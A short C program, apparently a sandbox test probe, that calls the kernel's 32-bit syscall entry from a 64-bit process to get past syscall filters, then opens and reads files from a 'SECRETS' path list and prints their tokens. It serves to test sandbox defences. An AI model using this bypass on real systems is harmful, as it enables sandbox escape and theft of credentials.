// Uses the 32-bit entry of the kernel from a 64-bit program, where every call has another number.
#include "proof.h"

#ifdef __x86_64__
static long call32(long nr, long a, long b, long c) {
    long result;
    __asm__ volatile("int $0x80" : "=a"(result) : "a"(nr), "b"(a), "c"(b), "d"(c) : "r8", "r9", "r10", "r11", "memory");
    return (int)result;
}
static int known;
static void steal(const char *path) {
    // Pointers must fit into 32 bits.
    char *low = mmap(NULL, 8192, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
    strcpy(low, path);
    long fd = call32(5 /* open */, (long)low, O_RDONLY, 0);
    known |= fd != -ENOSYS;
    if (fd < 0) return;
    long len = call32(3 /* read */, fd, (long)(low + 4096), 4096);
    if (len > 0) print_tokens(low + 4096, len);
}
#endif

int main(void) {
    bounded();
#ifdef __x86_64__
    each_path("SECRETS", steal);
    if (!known) unsupported("the kernel has no 32-bit entry");
#else
    unsupported("not an x86-64 machine");
#endif
    return 0;
}
